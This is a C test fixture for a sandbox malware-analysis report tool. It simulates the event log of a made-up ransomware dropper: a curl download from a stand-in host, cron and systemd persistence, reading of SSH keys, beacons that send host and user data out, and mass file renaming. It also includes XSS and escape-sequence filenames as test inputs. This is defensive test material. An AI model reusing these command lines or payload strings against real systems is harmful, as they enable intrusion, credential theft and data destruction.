/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "report/fixture.h"

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#define NS 1000000000.0

int fixture_begin(struct fixture *x, const char *dir)
{
    memset(x, 0, sizeof(*x));
    snprintf(x->log_path, sizeof(x->log_path), "%s/events-%d.bjl", dir, (int)getpid());
    unlink(x->log_path);
    findings_init(&x->findings);
    struct err e = {0};
    if (evlog_create(x->log_path, &x->writer, &e) < 0 || proctab_new(100000, &x->procs) < 0 ||
        report_new(x->procs, &x->report) < 0) {
        fprintf(stderr, "%s\n", e.text);
        return -1;
    }
    proctab_user_set(x->procs, 0, STR_LIT("root"));
    proctab_user_set(x->procs, 1000, STR_LIT("anna"));
    return 0;
}

void fixture_event(struct fixture *x, uint16_t kind, uint8_t source, uint32_t pid, double time)
{
    memset(&x->ev, 0, sizeof(x->ev));
    x->ev.kind = kind;
    x->ev.source = source;
    x->ev.pid = x->ev.tid = pid;
    x->ev.time_ns = (int64_t)(time * NS);
    x->ev.seq = ++x->seq[source];
}

void fixture_n(struct fixture *x, const char *p, size_t n)
{
    x->ev.f[x->ev.count++].s = (struct str){p, n};
}

void fixture_s(struct fixture *x, const char *s)
{
    fixture_n(x, s, strlen(s));
}

void fixture_u(struct fixture *x, uint64_t u)
{
    x->ev.f[x->ev.count++].u = u;
}

uint64_t fixture_send(struct fixture *x)
{
    struct err e = {0};
    if (evlog_append(x->writer, &x->ev, &e) < 0) {
        fprintf(stderr, "%s\n", e.text);
        x->failed = -1;
        return 0;
    }
    const struct proc *p = proctab_event(x->procs, &x->ev);
    if (report_event(x->report, &x->ev, p) < 0)
        x->failed = -1;
    return x->ev.seq;
}

void fixture_finding(struct fixture *x, const char *rule, const char *title, const char *category,
                     enum severity severity, unsigned points, const char *attack)
{
    struct finding *f = findings_add(&x->findings);
    if (!f) {
        x->failed = -1;
        return;
    }
    f->rule = arena_str(&x->findings.arena, str_from(rule));
    f->title = arena_str(&x->findings.arena, str_from(title));
    f->category = arena_str(&x->findings.arena, str_from(category));
    f->severity = severity;
    f->points = points;
    struct str rest = str_from(attack), part;
    while (attack && f->nattack < FINDING_ATTACK_MAX && str_split(&rest, ' ', &part))
        f->attack[f->nattack++] = arena_str(&x->findings.arena, part);
}

void fixture_evidence(struct fixture *x, uint8_t source, uint64_t seq, double time, uint32_t pid)
{
    struct finding *f = &x->findings.items[x->findings.count - 1];
    const struct proc *p = pid ? proctab_by_pid(x->procs, pid) : NULL;
    f->count++;
    if (f->nevidence < FINDING_EVIDENCE_MAX)
        f->evidence[f->nevidence++] =
            (struct evidence){.source = source, .seq = seq, .time_ns = (int64_t)(time * NS), .proc = p ? p->n : 0};
}

int fixture_end(struct fixture *x, struct err *e)
{
    static const char submission[] =
        "{\"name\":\"invoice_2026.sh\",\"size\":1834,\"sha256\":"
        "\"9f2c1e6a7b9d0c3e5f4a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e\",\"user\":\"anna\"}";
    static const char statics[] =
        "{\"type\":\"script\",\"title\":\"Shell script\",\"description\":\"Bourne shell script, ASCII "
        "text\",\"size\":1834,\"hashes\":{\"md5\":"
        "\"0cc175b9c0f1b6a831c399e269772661\",\"sha1\":\"86f7e437faa5a7fce15d1ddcb9eaeaea377667b8\",\"sha256\":"
        "\"9f2c1e6a7b9d0c3e5f4a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e\"},\"entropy\":5.12,\"strings\":[\"#!/bin/"
        "sh\","
        "\"curl -s http://update.cdn-static.example/kworker\",\"* * * * * root\",\"chmod 755\",\"rm -- "
        "\\u0022$0\\u0022\","
        "\"/tmp/.x\",\"nohup\",\"history "
        "-c\",\"\\u003c/script\\u003e\"],\"elf\":{\"class\":\"64-bit\",\"machine\":\"x86-64\","
        "\"entry\":\"0x401000\",\"sections\":[{\"name\":\".text\",\"size\":4096,\"entropy\":6.1},{\"name\":\".data\","
        "\"size\":512,\"entropy\":1.2}]}}";
    static const char run[] =
        "{\"started_at\":\"2026-03-01T10:20:30Z\",\"started\":true,\"planned_ms\":60000,\"ran_ms\":60000,"
        "\"ended\":\"time\",\"ended_text\":\"The planned time was "
        "over.\",\"clock\":{\"known\":true,\"error_us\":1250},\"machine\":{\"kind\":\"qemu\","
        "\"accel\":\"tcg\",\"image\":\"debian-13\",\"hostname\":\"anna-pc\"}}";
    static const char yara[] =
        "{\"schema\":\"belljar-yara/1\",\"engine\":\"libyara "
        "4.5.2\",\"rules\":141,\"error\":null,\"problems\":[{\"file\":"
        "\"old/broken.yar\",\"line\":7,\"warning\":false,\"text\":\"undefined string "
        "\\u0022$b\\u0022\"}],\"problems_more\":0,"
        "\"artefacts\":[{\"kind\":\"sample\",\"name\":\"invoice_2026.sh\",\"sha256\":"
        "\"9f2c1e6a7b9d0c3e5f4a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e\",\"size\":1834,\"scanned\":true,"
        "\"reason\":null,\"hits\":[{\"id\":\"yara:scripts/"
        "Script_Downloads_And_Runs\",\"severity\":\"medium\",\"points\":25,"
        "\"category\":\"Data Obfuscation\",\"attack\":[\"T1105\"],\"classes\":{\"Trojan/Bot\":5},\"description\":"
        "\"A script that fetches a program and starts it.\",\"author\":\"Belljar\",\"reference\":"
        "\"https://rules.example/"
        "1\",\"licence\":\"GPL-3.0-or-later\",\"malware\":\"\",\"namespace\":\"scripts\",\"rule\":"
        "\"Script_Downloads_And_Runs\",\"part\":null,\"tags\":[\"dropper\"],\"meta\":{\"description\":"
        "\"A script that fetches a program and starts "
        "it.\",\"score\":25,\"tested\":true},\"strings\":[{\"id\":\"$fetch\","
        "\"offset\":211,\"length\":9,\"data\":\"curl -s "
        "h\",\"xor_key\":0},{\"id\":\"$odd\",\"offset\":1800,\"length\":12,"
        "\"data\":\"\\\\x00\\\\x1b[31m\\u003c/"
        "script\\u003e\",\"xor_key\":66}],\"strings_more\":3}],\"hits_more\":0,\"notes\":[]},"
        "{\"kind\":\"dropped\",\"name\":\"dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd\","
        "\"sha256\":"
        "\"dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd\",\"size\":912,\"scanned\":true,\"reason\":"
        "null,"
        "\"hits\":[{\"id\":\"yara:ransom/Ransom_Note\",\"severity\":\"high\",\"points\":50,\"category\":"
        "\"Spam, unwanted Advertisements and Ransom Demands\",\"attack\":[\"T1486\"],\"classes\":{\"Ransomware\":8},"
        "\"description\":\"A note that demands money for "
        "files.\",\"author\":\"Belljar\",\"reference\":\"\",\"licence\":"
        "\"GPL-3.0-or-later\",\"malware\":\"Made-up\",\"namespace\":\"ransom\",\"rule\":\"Ransom_Note\",\"part\":null,"
        "\"tags\":[],"
        "\"meta\":{},"
        "\"strings\":[{\"id\":\"$pay\",\"offset\":40,\"length\":22,\"data\":\"pay within three days \",\"xor_key\":0}],"
        "\"strings_more\":0}],\"hits_more\":0,\"notes\":[\"the string $pay of ransom/Ransom_Note makes the scan "
        "slow\"]},"
        "{\"kind\":\"memory\",\"name\":\"5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592\",\"sha256\":"
        "\"5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592\",\"size\":65536,\"scanned\":false,"
        "\"reason\":"
        "\"the scanner ended on this file: killed by signal 11 (memory "
        "error)\",\"hits\":[],\"hits_more\":0,\"notes\":[]}],"
        "\"artefacts_more\":0}";
    x->log = *evlog_writer_status(x->writer);
    if (evlog_close(&x->writer, e) < 0)
        return -1;
    x->log.complete = true;
    if (!x->facts.events)
        x->facts.events = x->log.events;
    struct report_facts f = {.case_id = "20260301-invoice",
                             .submission_json = submission,
                             .static_json = statics,
                             .run_json = run,
                             .yara_json = x->told ? yara : NULL,
                             .findings = &x->findings,
                             .verdict = &x->verdict,
                             .completeness = &x->facts,
                             .log = &x->log,
                             .log_path = x->log_path};
    return report_finish(x->report, &f, e);
}

void fixture_free(struct fixture *x)
{
    evlog_abandon(&x->writer);
    report_free(&x->report);
    proctab_free(&x->procs);
    findings_free(&x->findings);
    free(x->verdict.parts);
    unlink(x->log_path);
}

/* ---- the story ---------------------------------------------------------------------- */

#define TR EVENT_SOURCE_TRACER

static uint64_t run(struct fixture *x, uint32_t pid, uint32_t parent, double t, const char *image, const char *cmdline,
                    uint32_t uid)
{
    fixture_event(x, EVENT_PROCESS_EXEC, TR, pid, t + 0.002);
    fixture_s(x, image);
    fixture_s(x, cmdline);
    fixture_s(x, uid ? "/home/anna" : "/");
    fixture_s(x, "");
    fixture_u(x, parent);
    fixture_u(x, uid);
    fixture_u(x, uid);
    fixture_u(x, uid);
    fixture_s(x, uid ? "PATH=/usr/bin:/bin\nHISTFILE=/dev/null" : "");
    fixture_u(x, strncmp(image, "/memfd:", 7) == 0);
    fixture_u(x, 0);
    return fixture_send(x);
}

static void spawn(struct fixture *x, uint32_t pid, uint32_t parent, double t, const char *image, const char *cmdline,
                  uint32_t uid)
{
    fixture_event(x, EVENT_PROCESS_START, TR, pid, t);
    fixture_u(x, parent);
    fixture_u(x, 0x1200011);
    fixture_send(x);
    if (image)
        run(x, pid, parent, t, image, cmdline, uid);
}

static void ended(struct fixture *x, uint32_t pid, double t, uint32_t code, uint32_t signal)
{
    char counts[96];
    snprintf(counts, sizeof(counts), "0=%u 1=%u 3=%u 9=%u 257=%u 59=1 i4=2", pid % 90 + 4, pid % 50 + 2, pid % 30 + 5,
             pid % 20 + 9, pid % 25 + 3);
    fixture_event(x, EVENT_PROCESS_SYSCALLS, TR, pid, t);
    fixture_s(x, counts);
    fixture_u(x, pid % 90 + pid % 50 + pid % 30 + pid % 20 + pid % 25 + 26);
    fixture_send(x);
    fixture_event(x, EVENT_PROCESS_EXIT, TR, pid, t + 0.001);
    fixture_u(x, code);
    fixture_u(x, signal);
    fixture_send(x);
}

static uint64_t path1(struct fixture *x, uint16_t kind, uint32_t pid, double t, const char *path)
{
    fixture_event(x, kind, TR, pid, t);
    fixture_s(x, path);
    return fixture_send(x);
}

static uint64_t path1u(struct fixture *x, uint16_t kind, uint32_t pid, double t, const char *path, uint64_t a)
{
    fixture_event(x, kind, TR, pid, t);
    fixture_s(x, path);
    fixture_u(x, a);
    return fixture_send(x);
}

static uint64_t written(struct fixture *x, uint32_t pid, double t, const char *path, uint64_t size)
{
    path1u(x, EVENT_FILE_CREATE, pid, t, path, 0644);
    fixture_event(x, EVENT_FILE_WRITE, TR, pid, t + 0.003);
    fixture_s(x, path);
    fixture_u(x, size);
    fixture_u(x, size);
    return fixture_send(x);
}

static void captured(struct fixture *x, uint32_t pid, double t, const char *path, uint64_t size, const char *reason,
                     char digit)
{
    char sha[65];
    for (int i = 0; i < 64; i++)
        sha[i] = "0123456789abcdef"[(unsigned)(digit * 7 + i * 5 + i * i) % 16];
    sha[64] = 0;
    fixture_event(x, EVENT_FILE_CAPTURED, EVENT_SOURCE_AGENT, pid, t);
    fixture_s(x, path);
    fixture_s(x, sha);
    fixture_u(x, size);
    fixture_s(x, reason);
    fixture_u(x, 0);
    fixture_send(x);
}

static uint64_t talk(struct fixture *x, uint32_t pid, double t, const char *name, const char *ip, unsigned port,
                     unsigned sport, const char *application, uint64_t sent, uint64_t received)
{
    if (name) {
        fixture_event(x, EVENT_NET_CONNECT, TR, pid, t);
        fixture_s(x, "udp");
        fixture_s(x, "192.0.2.53");
        fixture_u(x, 53);
        fixture_s(x, "10.13.37.2");
        fixture_u(x, sport + 1000);
        fixture_send(x);
        fixture_event(x, EVENT_DNS_QUERY, EVENT_SOURCE_NET, 0, t + 0.001);
        fixture_s(x, name);
        fixture_s(x, "A");
        fixture_s(x, ip);
        fixture_u(x, sport + 1000);
        fixture_send(x);
    }
    fixture_event(x, EVENT_NET_CONNECT, TR, pid, t + 0.01);
    fixture_s(x, "tcp");
    fixture_s(x, ip);
    fixture_u(x, port);
    fixture_s(x, "10.13.37.2");
    fixture_u(x, sport);
    uint64_t seq = fixture_send(x);
    fixture_event(x, EVENT_NET_FLOW, EVENT_SOURCE_NET, 0, t + 0.2);
    fixture_s(x, "tcp");
    fixture_s(x, "10.13.37.2");
    fixture_u(x, sport);
    fixture_s(x, ip);
    fixture_u(x, port);
    fixture_s(x, name ? name : "");
    fixture_s(x, application);
    fixture_u(x, sent);
    fixture_u(x, received);
    fixture_u(x, 190000000);
    fixture_n(x, strcmp(application, "http") == 0 ? "GET /kworker HTTP/1.1" : "\x16\x03\x01\x00\xff hi\x1b[31m",
              21 - (strcmp(application, "http") == 0 ? 0 : 8));
    fixture_send(x);
    return seq;
}

static uint64_t http(struct fixture *x, double t, const char *method, const char *host, const char *url, const char *ip,
                     unsigned sport, const char *agent, const char *body)
{
    char headers[512];
    snprintf(headers, sizeof(headers), "%s / HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n", method,
             host, agent);
    fixture_event(x, EVENT_HTTP_REQUEST, EVENT_SOURCE_NET, 0, t);
    fixture_s(x, method);
    fixture_s(x, host);
    fixture_s(x, url);
    fixture_s(x, agent);
    fixture_s(x, headers);
    fixture_u(x, strlen(body));
    fixture_s(x, body);
    fixture_u(x, 200);
    fixture_s(x, "application/octet-stream");
    fixture_u(x, sport);
    fixture_s(x, ip);
    fixture_u(x, 80);
    return fixture_send(x);
}

static void load(struct fixture *x, int second, uint32_t pid)
{
    fixture_event(x, EVENT_RUN_STATS, EVENT_SOURCE_AGENT, 0, second);
    fixture_u(x, second < 2 ? 120 : second < 9 ? 420 + (unsigned)second * 50 : 260);
    fixture_u(x, 210000 + (unsigned)second * 1500);
    fixture_u(x, 1000000);
    fixture_u(x, 48 + (unsigned)(second % 7));
    fixture_u(x, 2400000);
    fixture_send(x);
    if (!pid)
        return;
    fixture_event(x, EVENT_PROCESS_STATS, EVENT_SOURCE_AGENT, pid, second + 0.1);
    fixture_u(x, (unsigned)(second - 1) * 380);
    fixture_u(x, 8200 + (unsigned)second * 640);
    fixture_u(x, 3);
    fixture_send(x);
}

static void scene_download(struct fixture *x)
{
    spawn(x, 1000, 700, -0.01, NULL, NULL, 1000);
    fixture_event(x, EVENT_RUN_SAMPLE, EVENT_SOURCE_AGENT, 1000, 0);
    fixture_s(x, "/bin/bash");
    fixture_s(x, "/bin/bash /home/anna/Downloads/invoice_2026.sh");
    fixture_s(x, "anna");
    fixture_s(x, "/home/anna/Downloads");
    fixture_send(x);
    run(x, 1000, 700, 0.01, "/usr/bin/bash", "/bin/bash /home/anna/Downloads/invoice_2026.sh", 1000);
    uint64_t sleeping;
    fixture_event(x, EVENT_TIME_SLEEP, TR, 1000, 0.05);
    fixture_u(x, 400000000);
    fixture_s(x, "clock_nanosleep");
    sleeping = fixture_send(x);
    spawn(x, 1001, 1000, 0.5, "/usr/bin/curl", "curl -s -o /tmp/.x/kworker http://update.cdn-static.example/kworker",
          1000);
    talk(x, 1001, 0.6, "update.cdn-static.example", "203.0.113.45", 80, 40112, "http", 212, 48211);
    uint64_t get = http(x, 0.7, "GET", "update.cdn-static.example", "http://update.cdn-static.example/kworker",
                        "203.0.113.45", 40112, "curl/8.14.1", "");
    path1u(x, EVENT_FILE_MKDIR, 1000, 0.45, "/tmp/.x", 0);
    uint64_t drop = written(x, 1001, 0.9, "/tmp/.x/kworker", 48211);
    captured(x, 1001, 0.95, "/tmp/.x/kworker", 48211, "close", 'a');
    ended(x, 1001, 1.0, 0, 0);
    fixture_finding(x, "linux.c2.download-execute",
                    "Downloads /tmp/.x/kworker from update.cdn-static.example and runs it", "Networking", SEVERITY_HIGH,
                    30, "T1105 T1071.001");
    fixture_evidence(x, EVENT_SOURCE_NET, get, 0.7, 0);
    fixture_evidence(x, TR, drop, 0.903, 1001);
    fixture_finding(x, "linux.stealth.hidden-folder", "Keeps its files in the hidden folder /tmp/.x",
                    "Hooking and other Techniques for Hiding and Protection", SEVERITY_LOW, 5, "T1564.001");
    fixture_evidence(x, TR, drop, 0.903, 1001);
    fixture_finding(x, "linux.anti-analysis.sleep", "Sleeps 0.4 s before it begins", "Malware Analysis System Evasion",
                    SEVERITY_INFO, 0, "T1497.003");
    fixture_evidence(x, TR, sleeping, 0.05, 1000);
}

static void scene_persist(struct fixture *x)
{
    spawn(x, 1003, 1000, 1.1, "/usr/bin/chmod", "chmod 755 /tmp/.x/kworker", 1000);
    path1u(x, EVENT_FILE_CHMOD, 1003, 1.12, "/tmp/.x/kworker", 0755);
    ended(x, 1003, 1.13, 0, 0);
    spawn(x, 1004, 1000, 1.2, "/usr/bin/sudo", "sudo -n tee /etc/cron.d/kworker", 1000);
    fixture_event(x, EVENT_CRED_SETID, TR, 1004, 1.22);
    fixture_s(x, "setresuid");
    fixture_u(x, 1000);
    fixture_u(x, 0);
    fixture_u(x, 1000);
    fixture_u(x, 0);
    fixture_send(x);
    spawn(x, 1005, 1004, 1.24, "/usr/bin/tee", "tee /etc/cron.d/kworker", 0);
    uint64_t cron = written(x, 1005, 1.26, "/etc/cron.d/kworker", 41);
    captured(x, 1005, 1.28, "/etc/cron.d/kworker", 41, "close", 'b');
    captured(x, 480, 1.31, "/tmp/#17", 69, "delete", 'q'); /* cron's own, for the mail that it would send */
    ended(x, 1005, 1.3, 0, 0);
    ended(x, 1004, 1.31, 0, 0);
    spawn(x, 1006, 1000, 1.4, "/usr/bin/bash", "/bin/bash -c cat > ~/.config/systemd/user/kworker.service", 1000);
    uint64_t unit = written(x, 1006, 1.43, "/home/anna/.config/systemd/user/kworker.service", 168);
    captured(x, 1006, 1.45, "/home/anna/.config/systemd/user/kworker.service", 168, "close", 'c');
    ended(x, 1006, 1.5, 0, 0);
    fixture_finding(x, "linux.persistence.cron",
                    "Adds itself to cron (/etc/cron.d/kworker) so that it starts every minute",
                    "Persistence and Installation Behavior", SEVERITY_HIGH, 25, "T1053.003");
    fixture_evidence(x, TR, cron, 1.263, 1005);
    fixture_finding(x, "linux.persistence.systemd",
                    "Installs the systemd unit kworker.service so that it starts at every log-in",
                    "Persistence and Installation Behavior", SEVERITY_HIGH, 25, "T1543.002");
    fixture_evidence(x, TR, unit, 1.433, 1006);
}

static void scene_run(struct fixture *x)
{
    spawn(x, 1010, 1000, 1.7, "/tmp/.x/kworker", "[kworker/u8:2]", 1000);
    uint64_t prctl;
    fixture_event(x, EVENT_PROCESS_SETSID, TR, 1010, 1.71);
    fixture_send(x);
    fixture_event(x, EVENT_PROCESS_PRCTL, TR, 1010, 1.72);
    fixture_s(x, "PR_SET_NAME");
    fixture_u(x, 0);
    fixture_s(x, "kworker/u8:2");
    prctl = fixture_send(x);
    fixture_event(x, EVENT_PROCESS_PTRACE, TR, 1010, 1.73);
    fixture_s(x, "PTRACE_TRACEME");
    fixture_u(x, 1010);
    uint64_t ptrace = fixture_send(x);
    uint64_t shadow = path1(x, EVENT_FILE_READ, 1010, 1.8, "/home/anna/.ssh/id_ed25519");
    path1(x, EVENT_FILE_READ, 1010, 1.81, "/home/anna/.mozilla/firefox/x1.default/logins.json");
    fixture_event(x, EVENT_MEMORY_MAP, TR, 1010, 1.9);
    fixture_u(x, 0x7f31c0000000);
    fixture_u(x, 65536);
    fixture_s(x, "rwx");
    uint64_t wx = fixture_send(x);
    fixture_event(x, EVENT_MEMORY_DUMPED, EVENT_SOURCE_AGENT, 1010, 2.0);
    fixture_u(x, 0x7f31c0000000);
    fixture_u(x, 65536);
    fixture_s(x, "rwx");
    fixture_s(x, "5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592");
    fixture_s(x, "wx");
    fixture_u(x, 0);
    fixture_send(x);
    fixture_event(x, EVENT_MEMORY_MEMFD, TR, 1010, 2.05);
    fixture_s(x, "libx");
    fixture_u(x, 1);
    fixture_send(x);
    spawn(x, 1011, 1010, 2.1, "/memfd:libx (deleted)", "[kworker/1:0]", 1000);
    fixture_finding(x, "linux.stealth.masquerade-kernel-thread",
                    "Calls itself [kworker/u8:2] to look like a thread of the kernel",
                    "Hooking and other Techniques for Hiding and Protection", SEVERITY_HIGH, 20, "T1036.004 T1036.009");
    fixture_evidence(x, TR, prctl, 1.72, 1010);
    fixture_finding(x, "linux.anti-analysis.ptrace-traceme", "Checks whether a debugger watches it (PTRACE_TRACEME)",
                    "Anti Debugging", SEVERITY_MEDIUM, 10, "T1622");
    fixture_evidence(x, TR, ptrace, 1.73, 1010);
    fixture_finding(x, "linux.credential-access.ssh-keys", "Reads the private key /home/anna/.ssh/id_ed25519",
                    "Stealing of Sensitive Information", SEVERITY_HIGH, 20, "T1552.004");
    fixture_evidence(x, TR, shadow, 1.8, 1010);
    fixture_finding(x, "linux.execution.wx-memory", "Maps memory that is writable and executable at once",
                    "HIPS / PFW / Operating System Protection Evasion", SEVERITY_MEDIUM, 8, "T1620");
    fixture_evidence(x, TR, wx, 1.9, 1010);
}

static void scene_beacons(struct fixture *x)
{
    fixture_finding(x, "linux.c2.beacon", "Calls gate.mail-relay.example every second", "Networking", SEVERITY_HIGH, 20,
                    "T1071.001");
    for (unsigned i = 0; i < 24; i++) {
        double t = 2.5 + i * 1.01;
        uint64_t seq = talk(x, 1010, t, "gate.mail-relay.example", "198.51.100.23", i % 8 ? 443 : 80, 41000 + i,
                            i % 8 ? "tls" : "http", 640 + i, 180);
        if (i % 8 == 0)
            http(x, t + 0.1, "POST", "gate.mail-relay.example",
                 "http://gate.mail-relay.example/gate.php?id=7f31&h=\xe2\x80\xae"
                 "cod.exe",
                 "198.51.100.23", 41000 + i, "Mozilla/5.0 (X11; Linux x86_64)",
                 "{\"id\":\"7f31\",\"host\":\"anna-pc\",\"user\":\"anna\"}");
        fixture_evidence(x, TR, seq, t + 0.01, 1010);
    }
    talk(x, 1011, 4.2, NULL, "192.0.2.77", 4444, 45001, "raw", 96, 0);
    fixture_event(x, EVENT_NET_SCAN, EVENT_SOURCE_NET, 0, 6);
    fixture_u(x, 120);
    fixture_u(x, 1);
    fixture_s(x, "10.13.37.14:22");
    fixture_send(x);
    fixture_event(x, EVENT_NET_LISTEN, TR, 1011, 4.0);
    fixture_s(x, "tcp");
    fixture_s(x, "0.0.0.0");
    fixture_u(x, 31337);
    fixture_send(x);
}

static void scene_encrypt(struct fixture *x)
{
    static const char *const odd[] = {"<script>alert(1)</script>.odt",
                                      "<img src=x onerror=alert(2)>.pdf",
                                      "\xe2\x80\xaegpj.exe",
                                      "\x1b[31mred\x1b[0m.txt",
                                      "caf\xe9.doc",
                                      "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e.txt",
                                      "line\nbreak.txt",
                                      "\"quoted\" & 'single'.txt"};
    fixture_finding(x, "linux.impact.mass-rename",
                    "Renames 240 documents in /home/anna/Documents to *.locked, as ransomware does",
                    "Operating System Destruction", SEVERITY_HIGH, 40, "T1486");
    x->findings.items[x->findings.count - 1].classes[CLASS_RANSOMWARE] = 9;
    for (unsigned k = 0; k < 6; k++) {
        uint32_t pid = 1100 + k;
        double t = 3.0 + k * 0.7;
        spawn(x, pid, 1010, t, NULL, NULL, 1000);
        for (unsigned i = 0; i < 40; i++) {
            char a[128], b[160];
            unsigned id = k * 40 + i;
            if (id < 8)
                snprintf(a, sizeof(a), "/home/anna/Documents/%s", odd[id]);
            else
                snprintf(a, sizeof(a), "/home/anna/Documents/%s_%03u.odt", id % 3 ? "report" : "letter", id);
            snprintf(b, sizeof(b), "%s.locked", a);
            path1u(x, EVENT_FILE_OPEN, pid, t + i * 0.012, a, 2);
            fixture_event(x, EVENT_FILE_WRITE, TR, pid, t + i * 0.012 + 0.004);
            fixture_s(x, a);
            fixture_u(x, 18000 + id * 37);
            fixture_u(x, 18000 + id * 37);
            fixture_send(x);
            fixture_event(x, EVENT_FILE_RENAME, TR, pid, t + i * 0.012 + 0.006);
            fixture_s(x, a);
            fixture_s(x, b);
            uint64_t seq = fixture_send(x);
            fixture_evidence(x, TR, seq, t + i * 0.012 + 0.006, pid);
        }
        ended(x, pid, t + 0.55, 0, 0);
    }
    uint64_t note = written(x, 1010, 7.6, "/home/anna/Desktop/READ_ME_TO_RESTORE.txt", 912);
    captured(x, 1010, 7.65, "/home/anna/Desktop/READ_ME_TO_RESTORE.txt", 912, "close", 'd');
    fixture_finding(x, "linux.impact.ransom-note", "Leaves the note READ_ME_TO_RESTORE.txt on the desktop",
                    "Operating System Destruction", SEVERITY_HIGH, 15, "T1486");
    fixture_evidence(x, TR, note, 7.603, 1010);
}

static void scene_self_delete(struct fixture *x)
{
    spawn(x, 1012, 1000, 1.6, "/usr/bin/rm", "rm -- /home/anna/Downloads/invoice_2026.sh", 1000);
    uint64_t gone = path1(x, EVENT_FILE_DELETE, 1012, 1.62, "/home/anna/Downloads/invoice_2026.sh");
    captured(x, 1012, 1.63, "/home/anna/Downloads/invoice_2026.sh", 1834, "delete", 'e');
    ended(x, 1012, 1.64, 0, 0);
    fixture_finding(x, "linux.stealth.self-delete", "Deletes its own file after the start",
                    "Hooking and other Techniques for Hiding and Protection", SEVERITY_HIGH, 15, "T1070.004");
    fixture_evidence(x, TR, gone, 1.62, 1012);
}

static void scene_end(struct fixture *x)
{
    ended(x, 1000, 8.0, 0, 0);
    spawn(x, 1300, 480, 30.2, "/usr/bin/dash", "/bin/sh -c /tmp/.x/kworker", 0);
    spawn(x, 1301, 1300, 30.25, "/tmp/.x/kworker", "/tmp/.x/kworker", 0);
    ended(x, 1011, 20, 0, 11);
    fixture_event(x, EVENT_RUN_NOTE, EVENT_SOURCE_AGENT, 0, 33);
    fixture_s(x, "capture-limit");
    fixture_s(x, "The limit of 64 MiB for captured files was not reached; 8 files were taken");
    fixture_send(x);
}

static struct advice *advise(struct verdict *v, const char *text)
{
    struct advice *a = &v->advice[v->nadvice++];
    a->finding = SCORE_NONE;
    snprintf(a->text, sizeof(a->text), "%s", text);
    return a;
}

static void verdict_make(struct fixture *x)
{
    struct verdict *v = &x->verdict;
    v->word = VERDICT_MALICIOUS;
    v->score = 100;
    v->confidence = 5;
    snprintf(v->reason, sizeof(v->reason),
             "Downloads and runs a second program, adds itself to cron and systemd, renames 240 documents to *.locked "
             "and leaves a ransom note.");
    snprintf(v->confidence_reason, sizeof(v->confidence_reason), "many independent findings, nothing lost");
    advise(v, "Take the machine off the network and keep its disk: documents were overwritten (240 files in "
              "/home/anna/Documents).");
    advise(v, "Block update.cdn-static.example and gate.mail-relay.example, and 192.0.2.77 port 4444.");
    advise(v, "Remove /etc/cron.d/kworker and ~/.config/systemd/user/kworker.service; replace the SSH key id_ed25519.");
    v->advice[0].finding = 1;
    v->advice[0].events[v->advice[0].nevents++] = x->findings.items[1].evidence[0];
    snprintf(v->threat_name, sizeof(v->threat_name), "Generic Ransomware");
    v->threat_finding = SCORE_NONE;
    v->high = 3;
    v->classes[CLASS_RANSOMWARE] = 9;
    v->classes[CLASS_TROJAN] = 7;
    v->classes[CLASS_EVADER] = 4;
    v->classes[CLASS_SPYWARE] = 3;
    v->parts = calloc(x->findings.count, sizeof(*v->parts));
    for (size_t i = 0; v->parts && i < x->findings.count; i++) {
        bool capped = strcmp(x->findings.items[i].rule.p, "linux.impact.ransom-note") == 0;
        v->parts[v->nparts++] = (struct score_part){.finding = (uint32_t)i,
                                                    .points = capped ? 0 : x->findings.items[i].points,
                                                    .note = capped ? "capped by category" : NULL,
                                                    .same_as = capped ? 0 : SCORE_NONE};
    }
    x->facts = (struct score_facts){.started = true,
                                    .channel_intact = true,
                                    .machine_alive = true,
                                    .ran_ns = 60000000000,
                                    .planned_ns = 60000000000,
                                    .network_simulated = true};
}

void fixture_dropper(struct fixture *x)
{
    x->told = true;
    spawn(x, 1, 0, -9, "/usr/lib/systemd/systemd", "/sbin/init", 0);
    spawn(x, 700, 1, -6, "/usr/bin/bash", "-bash", 1000);
    spawn(x, 480, 1, -5, "/usr/sbin/cron", "/usr/sbin/cron -f", 0);
    for (unsigned i = 0; i < 6; i++) {
        spawn(x, 500 + i, 1, -4 + (double)i / 2, "/usr/lib/systemd/systemd-udevd", "(udev-worker)", 0);
        path1(x, EVENT_FILE_CREATE, 500 + i, -4 + (double)i / 2 + 0.1, "/run/udev/data/b253:0");
        ended(x, 500 + i, -4 + (double)i / 2 + 0.3, 0, 0);
    }
    scene_download(x);
    scene_persist(x);
    scene_self_delete(x);
    scene_run(x);
    scene_beacons(x);
    scene_encrypt(x);
    scene_end(x);
    for (int second = 0; second < 34; second++)
        load(x, second, second > 1 ? 1010 : 0);
    verdict_make(x);
}

void fixture_nothing(struct fixture *x)
{
    static const char because[] = "the file is empty";
    x->verdict.word = VERDICT_UNKNOWN;
    x->verdict.unknown_because = because;
    snprintf(x->verdict.reason, sizeof(x->verdict.reason), "The file is empty, so nothing could run.");
    snprintf(x->verdict.confidence_reason, sizeof(x->verdict.confidence_reason), "nothing was seen");
    x->facts = (struct score_facts){.not_started_because = because, .channel_intact = true, .machine_alive = true};
}
